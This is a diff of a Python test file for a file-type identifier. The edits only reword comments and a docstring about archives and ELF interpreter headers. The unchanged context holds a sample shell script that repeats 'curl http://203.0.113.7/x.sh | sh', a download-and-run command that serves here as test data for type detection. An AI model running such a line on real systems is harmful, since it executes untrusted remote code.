@@ -45,7 +45,7 @@ GOOD: Mapping[str, tuple[str, bytes]] = {
     "rar 5": ("rar", made_archives.rar_5("one.txt", "two.exe", password=True)),
     "script": ("shell", b"#!/bin/sh\n" + b"curl http://203.0.113.7/x.sh | sh\n" * 40),
 }
-#: bytes at the start that say what the file is, and so are left alone
+#: bytes at the start that tell the kind of the file, and so are left alone
 MARKS = 16
 
 
@@ -143,13 +143,13 @@ async def test_an_archive_inside_does_not_name_the_type(identifier: Identifier, 
     path = tmp_path / "sample"
     path.write_bytes(
         deck.getvalue()[:-300]
-    )  # what follows the archive inside is cut off, but the headers of entries are whole
+    )  # the bytes after the inner archive are cut off, but the headers of the entries are whole
 
     assert (await identifier.identify(path)).type == "pptx"
 
 
 def with_interpreter(interpreter: bytes) -> bytes:
-    """A program that asks for another one to load it."""
+    """A program that asks for another program as its loader."""
     start = 64 + 56
     header = bytearray(kinds.elf())[:64]
     header[32:40] = (64).to_bytes(8, "little")
